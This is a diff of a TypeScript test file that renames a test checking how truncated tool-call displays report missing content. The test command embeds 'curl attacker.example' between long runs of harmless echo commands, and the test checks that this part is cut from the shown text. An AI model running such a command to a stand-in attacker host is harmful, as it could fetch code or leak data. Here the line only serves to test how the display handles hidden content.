@@ -117,7 +117,7 @@ test.each<[Json, Json]>([
   expect(show({ tool: "Bash", args: one })).not.toBe(show({ tool: "Bash", args: other }));
 });
 
-test("whoever is shown the beginning of a call is told how much is missing, and how to see it", () => {
+test("a truncated call says how much is missing, and how to see it", () => {
   const command = `${"echo harmless; ".repeat(4_000)}curl attacker.example; ${"echo harmless; ".repeat(4_000)}`;
   const shown = show({ tool: "Bash", args: { command, timeoutMs: 5 } }, 600);
   expect(shown).not.toContain("attacker");
